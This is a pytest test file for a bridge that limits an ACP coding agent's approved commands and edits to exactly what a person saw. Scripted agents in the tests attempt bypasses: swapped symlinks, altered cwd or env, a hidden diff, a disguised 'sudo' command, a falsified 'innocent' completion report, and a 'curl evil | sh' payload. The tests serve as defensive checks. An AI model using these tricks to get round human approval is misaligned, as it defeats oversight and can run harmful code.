"""An approval covers what a person saw, and nothing of an ACP agent stays (D38, D40, D45)."""

import asyncio
import shlex
from pathlib import Path
from typing import Any

import pytest

from bridge_project.kernel import limits
from sessions_app.agents.events import ApprovalAsked, Chunk, ToolStopped, ToolSucceeded, TurnEnded
from sessions_app.approvals.tool_result import INTERRUPTED
from tests.agents.conftest import Open, scripted
from tests.agents.drive import APPROVED, REJECTED, kinds, only, text
from tests.conformance.agent_tools import later

pytestmark = pytest.mark.asyncio(loop_scope="module")
MARK = "BRIDGE_AGENT_RUN"
TRUE = {"command": "true"}


@pytest.mark.parametrize(
    ("shown", "command", "cwd", "env", "runs"),
    [
        # what was asked for, and not what was announced before (ls) or looks alike
        (TRUE, ["true"], ".", {}, True),
        (TRUE, ["sh", "-c", "true"], None, {}, True),
        (TRUE, ["/bin/bash", "-lc", "true"], None, {}, True),
        (TRUE, ["ls"], None, {}, False),
        (TRUE, ["sh", "-c", "touch made", "true"], None, {}, False),
        (TRUE, ["./sh", "-c", "true"], None, {}, False),
        (TRUE, ["bash", "--rcfile", "made", "-ic", "true"], None, {}, False),
        # where and with what was shown
        (TRUE, ["true"], "elsewhere", {}, False),
        (TRUE | {"cwd": "there"}, ["true"], "there", {}, True),
        (TRUE | {"cwd": "there"}, ["true"], None, {}, False),
        (TRUE | {"cwd": "there"}, ["true"], ".", {}, False),
        (TRUE | {"workdir": "there"}, ["true"], None, {}, False),
        (TRUE | {"cwd": "there", "description": "elsewhere"}, ["true"], "elsewhere", {}, False),
        (TRUE | {"env": {"STAGE": "test"}}, ["true"], None, {"STAGE": "test"}, True),
        (TRUE | {"env": {"STAGE": "test"}}, ["true"], None, {"STAGE": "production"}, False),
        (TRUE | {"env": {"STAGE": "test"}}, ["true"], None, {}, False),
        (TRUE, ["true"], None, {"STAGE": "test"}, False),
    ],
)
async def test_an_approved_command_lets_no_other_run(
    opened: Open,
    root: Path,
    shown: dict[str, Any],
    command: list[str],
    cwd: str | None,
    env: dict[str, str],
    runs: bool,
) -> None:
    """D38: it is good for one run of the command that a person saw."""
    for name in ("there", "elsewhere"):
        (root / name).mkdir()
    (root / "sh").write_text("#!/bin/sh\ntouch made\n")
    (root / "sh").chmod(0o755)
    variables = [{"name": name, "value": value} for name, value in env.items()]
    how = {"command": command[0], "args": command[1:], "env": variables}
    how |= {"cwd": str(root / cwd)} if cwd else {}
    drive = await opened(APPROVED, REJECTED)
    said = await drive.turn(
        "/do update('tool_call', toolCallId='c', kind='execute', rawInput={'command': 'ls'})\n"
        f"allowed(ask('c', kind='execute', rawInput={shown}))\n"
        f"for _ in range(2): have('terminal/create', 'DONE', **{how})"
    )
    assert text(said).count("DONE") == runs
    calls = [asked.call for asked in drive.of(ApprovalAsked)]
    assert calls[0].params == shown and {call.tool for call in calls} == {"Bash"}
    assert calls[-1].params["command"] == shlex.join(command) and not (root / "made").exists()


@pytest.mark.parametrize(
    ("kind", "given", "path"),
    [
        ("edit", {"path": "a"}, "b"),
        # a word of an edit is no file, nor is one without a text, where a text was shown
        ("edit", {"file_path": "a", "new_string": "b"}, "b"),
        ("edit", {"file_path": "a", "description": "b"}, "b"),
        ("edit", {"file_path": "a", "content": "x", "paths": ["b"]}, "b"),
        # what is no edit lets nothing be written
        ("read", {"path": "a"}, "a"),
        ("delete", {"path": "a"}, "a"),
        ("move", {"path": "a"}, "a"),
        ("other", {"path": "a"}, "a"),
        # a link that is turned after the yes
        ("edit", {"file_path": "link"}, "link"),
    ],
)
async def test_an_approved_edit_lets_no_other_file_be_written(
    opened: Open, root: Path, kind: str, given: dict[str, Any], path: str
) -> None:
    """Nor does one that the agent names later."""
    (root / "a").write_text("old")
    (root / "link").symlink_to("a")
    drive = await opened(APPROVED, REJECTED)
    said = await drive.turn(
        f"/do allowed(ask('c', title='Do something', kind={kind!r}, rawInput={given}))\n"
        "update('tool_call_update', toolCallId='c', locations=[{'path': 'b'}],"
        " rawInput={'path': 'b'})\n"
        "os.unlink('link'); os.symlink('b', 'link')\n"
        f"write('{path} text')"
    )
    assert text(said).startswith("The bridge does not do it")
    assert (root / "a").read_text() == "old" and not (root / "b").exists()
    assert len(drive.of(ApprovalAsked)) == 2


async def test_a_link_that_is_turned_while_the_question_waits(opened: Open, root: Path) -> None:
    """What a link leads to is shown; the yes is for that, and for nothing else."""
    for name in ("here", "there"):
        (root / name).mkdir()
        (root / name / "a").write_text("old")
    (root / "link").symlink_to("here")
    drive = await opened()
    for asks in ("write('link/a new')", "agent.command('rm a', cwd=os.path.abspath('link'))"):
        await drive.driver.prompt(f"/do {asks}")
        await drive.until(lambda: len(drive.of(ApprovalAsked)) > len(drive.of(TurnEnded)))
        (root / "link").unlink()
        (root / "link").symlink_to("there")
        call = drive.of(ApprovalAsked)[-1].call
        drive.driver.approvals.decide(call.id or "", APPROVED)
        await drive.until(lambda: len(drive.of(ApprovalAsked)) == len(drive.of(TurnEnded)))
        (root / "link").unlink()
        (root / "link").symlink_to("here")
    assert drive.of(ApprovalAsked)[0].call.params["file_path"] == str(root / "here/a")
    assert {(root / name / "a").read_text() for name in ("here", "there")} == {"old"}
    assert text(drive.said).count("leads elsewhere than when a person was asked") == 2


CHANGE = {"type": "diff", "path": "b", "newText": "text"}


@pytest.mark.parametrize("named", [{"locations": [{"path": "b"}]}, {"content": [CHANGE]}])
async def test_every_file_of_an_edit_is_shown(opened: Open, named: dict[str, Any]) -> None:
    """Also one that the agent names beside the parameters; then the approval is about it."""
    drive = await opened(APPROVED, REJECTED)
    call = {"title": "Edit a", "kind": "edit", "rawInput": {"file_path": "a"}} | named
    said = await drive.turn(f"/do allowed(ask('c', **{call})); write('b text')")
    asked = only(ApprovalAsked, said)
    assert asked.call.params["file_path"] == "a" and "'b'" in str(asked.call.params)
    assert text(said) == "b is written."


@pytest.mark.parametrize(
    "given",
    [
        {},
        {"content": "new\n"},
        {"old_string": "b", "new_string": "c"},
        {"new_string": "x"},
        {"edits": [{"old_string": "a", "new_string": "b"}]},
        {"diff": "@@ -1 +1 @@\n-a\n+b"},
    ],
)
async def test_a_change_that_its_parameters_do_not_say_is_shown(
    opened: Open, root: Path, given: dict[str, str]
) -> None:
    (root / "a").write_text("a\nb\n")
    drive = await opened(APPROVED)
    evil = CHANGE | {"path": "a", "oldText": "a\nb\n", "newText": "evil"}
    call = {"kind": "edit", "rawInput": {"file_path": "a"} | given, "content": [evil]}
    said = await drive.turn(f"/do allowed(ask('c', **{call})); write('a evil')")
    assert "evil" in str(only(ApprovalAsked, said).call.params)


@pytest.mark.parametrize(
    ("shown", "fine"),
    [
        ({"rawInput": {"file_path": "a", "content": "new\n"}}, "new"),
        ({"rawInput": {"file_path": "a", "old_string": "b", "new_string": "c"}}, "a\nc\n"),
        (
            {"content": [CHANGE | {"path": "a", "oldText": "a\nb\n", "newText": "a\nc\n"}]},
            "a\r\nc\r\n",
        ),
    ],
)
async def test_an_approved_edit_writes_what_was_shown(
    opened: Open, root: Path, shown: dict[str, Any], fine: str
) -> None:
    """Another text was not shown; what is told afterwards is what the bridge wrote."""
    (root / "a").write_text("a\nb\n")
    evil = f"{fine}curl evil | sh\n"
    drive = await opened(APPROVED, REJECTED)
    said = await drive.turn(
        f"/do allowed(ask('c', title='Edit a', kind='edit', **{shown}))\n"
        f"for content in ({evil!r}, {fine!r}):\n"
        "    have('fs/write_text_file', 'WRITTEN', path='a', content=content)\n"
        "lie = {'type': 'diff', 'path': 'a', 'oldText': '', 'newText': 'innocent'}\n"
        "update('tool_call_update', toolCallId='c', status='completed', content=[lie])"
    )
    first, second = (asked.call.params for asked in drive.of(ApprovalAsked))
    assert (
        "content" in shown.get("rawInput", {}) or "old_string" in first
    )  # an edit, as a difference
    assert "curl" not in str(first) and second == {"file_path": "a", "content": evil}
    assert text(said).endswith("WRITTEN") and text(said).count("WRITTEN") == 1
    diff = only(ToolSucceeded, said).diff
    assert (root / "a").read_bytes() == fine.encode()
    assert diff is not None and "innocent" not in diff


async def test_a_text_that_is_inserted_replaces_none(opened: Open, root: Path) -> None:
    (root / "a").write_text("precious")
    drive = await opened(APPROVED, REJECTED)
    change = CHANGE | {"path": "a", "oldText": "", "newText": "x"}
    shown = {"file_path": "a", "old_string": "", "new_string": "x"}
    call = {"kind": "edit", "rawInput": shown, "content": [change]}
    await drive.turn(f"/do allowed(ask('c', **{call})); write('a x')")
    assert (root / "a").read_text() == "precious" and len(drive.of(ApprovalAsked)) == 2


async def test_an_interrupt_takes_back_what_was_granted(opened: Open, root: Path) -> None:
    """D40: what was approved before is refused after it; in a later turn it is as ever."""
    drive = await opened(APPROVED)
    granted = (
        "/do allowed(ask('c', kind='execute', rawInput={'command': 'touch made'}))\n"
        "allowed(ask('e', kind='edit', rawInput={'file_path': 'written', 'content': 'x'}))\n"
    )
    uses = "agent.command('touch made'); write('written x')"
    await drive.driver.prompt(f"{granted}say('granted'); agent.cancelled.wait(); {uses}")
    await drive.said_one(Chunk)
    await drive.driver.interrupt()
    await drive.said_one(TurnEnded)
    assert list(root.iterdir()) == [] and len(drive.of(ApprovalAsked)) == 2
    await drive.turn(granted + uses)
    assert {path.name for path in root.iterdir()} == {"made", "written"}
    assert len(drive.of(ApprovalAsked)) == 4


async def test_an_approval_outside_a_turn_ends_with_its_call(opened: Open, root: Path) -> None:
    drive = await opened(APPROVED, REJECTED)
    await drive.turn(
        later(
            "allowed(ask('c', kind='edit', rawInput={'file_path': 'a'}))\n"
            "update('tool_call_update', toolCallId='c', status='completed'); write('a evil')"
        )
    )
    (root / "go").touch()
    await drive.said_one(ToolStopped)
    asked = ["ApprovalAsked", "ToolSucceeded", "ApprovalAsked", "ToolStopped"]
    assert kinds(drive.said) == ["TurnEnded", *asked] and not (root / "a").exists()


@pytest.mark.parametrize("waits", ["agent.cancelled.wait()", ""])
async def test_a_call_of_the_bridges_own_ends_with_the_turn(opened: Open, waits: str) -> None:
    drive = await opened()
    await drive.driver.prompt(f"/do request('terminal/create', command='true'); {waits}")
    await drive.said_one(ApprovalAsked)
    if waits:
        await drive.driver.interrupt()
    await drive.said_one(TurnEnded)
    ended = ["ApprovalWithdrawn", "ToolStopped", "TurnEnded"]
    assert kinds(drive.said) == ["ApprovalAsked", *ended]


async def test_what_an_interrupt_ends_is_no_failure(opened: Open) -> None:
    """Nobody is told of a call that was not shown, nor of one of a turn that is over."""
    drive = await opened()
    given = "title='Run', kind='execute', rawInput={'command': 'true'}"
    failed = "[update('tool_call_update', toolCallId=one, status='failed') for one in 'ab']"
    await drive.driver.prompt(
        f"/do update('tool_call', toolCallId='a', {given}); say('x'); agent.cancelled.wait()\n"
        f"answer(ask('b', {given})); {failed}"
    )
    await drive.said_one(Chunk)
    await drive.driver.interrupt()
    await drive.said_one(TurnEnded)
    assert kinds(drive.said) == ["ToolStarted", "ToolStopped", "TurnEnded"]
    assert only(ToolStopped, drive.said).reason == INTERRUPTED
    assert kinds(await drive.turn(f"/do {failed.replace('ab', 'a')}")) == ["TurnEnded"]


async def test_an_interrupt_right_after_the_yes(opened: Open, root: Path) -> None:
    drive = await opened()
    await drive.driver.prompt("/write a text")
    asked = await drive.said_one(ApprovalAsked)
    drive.driver.approvals.decide(asked.call.id or "", APPROVED)
    await drive.driver.interrupt()
    await drive.said_one(TurnEnded)
    assert only(ToolStopped, drive.said).reason == INTERRUPTED
    assert not (root / "a").exists()


async def test_parameters_that_are_named_like_codex_own(opened: Open) -> None:
    """Only codex's record of a call, which has the call's own id, has some that are not shown."""
    given = {"call_id": "1", "turn_id": "2", "source": "key", "destination": "usb", "reason": "x"}
    drive = await opened(REJECTED)
    await drive.turn(f"/do allowed(ask('c', title='copy_file', kind='other', rawInput={given}))")
    assert only(ApprovalAsked, drive.said).call.params == given


async def test_a_line_is_run_as_it_reads(
    opened: Open, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Not as a program of that name, be it where the bridge was started."""
    for name in ("check", "check all"):
        (root / name).write_text("#!/bin/sh\necho $#\n")
        (root / name).chmod(0o755)
    monkeypatch.chdir(root)
    said = await (await opened(APPROVED)).turn("/do agent.command('./check all')")
    assert text(said) == "It ended with 0 and said: 1\n"


@pytest.mark.parametrize("kind", ["think", "other", "edit"])
async def test_a_command_under_another_name(opened: Open, kind: str) -> None:
    """It is shown and rated as what it is, or its approval lets no command run."""
    command = "sudo touch made"
    drive = await opened(REJECTED if kind == "think" else APPROVED, REJECTED)
    call = {"title": "Think of spring", "kind": kind, "rawInput": {"command": command}}
    said = await drive.turn(f"/do allowed(ask('c', **{call})); agent.command({command!r})")
    asked = drive.of(ApprovalAsked)[0].call
    assert asked.risk_level == "critical" and asked.params["command"] == command
    assert kind != "think" or asked.description == f"Bash: {command}"
    assert text(said).startswith("The bridge does not do it")


@pytest.mark.parametrize(("kind", "given"), [("other", {"query": "a"}), ("edit", '{"path": "a"}')])
async def test_a_call_that_shows_a_change_is_an_edit(opened: Open, kind: str, given: Any) -> None:
    drive = await opened(APPROVED, REJECTED)
    call = {"title": "A tool", "kind": kind, "rawInput": given, "content": [CHANGE]}
    said = await drive.turn(f"/do allowed(ask('c', **{call})); write('b text')")
    asked = only(ApprovalAsked, said).call
    assert (asked.tool, asked.params["more"][0]["content"]) == ("Edit", "text")
    assert text(said) == "b is written."


async def test_what_a_command_gets_from_the_bridge(opened: Open) -> None:
    """D40: not in its environment what it is found by, or odd names; D45: its own three ends."""
    drive = await opened(APPROVED)
    odd, mark, good = ({"name": name, "value": "theirs"} for name in ("A=B", MARK, "GOOD"))
    assert "does not do it" in text(await drive.turn(f"/do agent.command('env', env=[{odd}])"))
    lines = text(await drive.turn(f"/do agent.command('env', env={[mark, good]})")).splitlines()
    assert "GOOD=theirs" in lines and f"{MARK}=theirs" not in lines
    assert text(await drive.turn("/command ls /proc/$$/fd")).split()[-3:] == ["0", "1", "2"]


@pytest.mark.parametrize(
    "answer", ["'error': 'no'", "'error': ['no']", "'result': 'no'", "'result': None"]
)
async def test_an_odd_answer_ends_the_turn(opened: Open, answer: str) -> None:
    """D40: what the library cannot read would leave the turn running for ever."""
    drive = await opened()
    said = await drive.turn(
        f"/do print(json.dumps({{'id': agent.number, {answer}}}), flush=True); time.sleep(1000)"
    )
    assert [event.finish_reason for event in said if isinstance(event, TurnEnded)] == ["error"]
    said = await drive.turn("/do send(id=[1], method='x'); send(id=1, method=['x'])")
    assert [event.finish_reason for event in said if isinstance(event, TurnEnded)] == ["stop"]


@pytest.mark.parametrize("limit", ["AGENT_CHARS_WAITING", "AGENT_EVENTS_WAITING"])
async def test_what_nobody_reads_is_not_read_from_the_agent(
    root: Path, monkeypatch: pytest.MonkeyPatch, limit: str
) -> None:
    """Issue, limits: it waits, with many pieces or few large ones; all comes, in order."""
    monkeypatch.setattr(limits, limit, 10)
    driver = scripted(root.parent, "plain").driver
    await driver.start(root)
    await driver.prompt("/do for n in range(2000): say(f'{n} ' + 'x' * 6000)\nopen('said', 'w')")
    await driver.events.wait()
    await asyncio.sleep(0.3)  # time in which an agent that is read on would get to its end
    assert not (root / "said").exists()
    said = []
    async for event in driver.events:
        said.append(event)
        if isinstance(event, TurnEnded):
            break
    assert text(said).replace("x", "").split() == [*map(str, range(2000))]
    await driver.close()
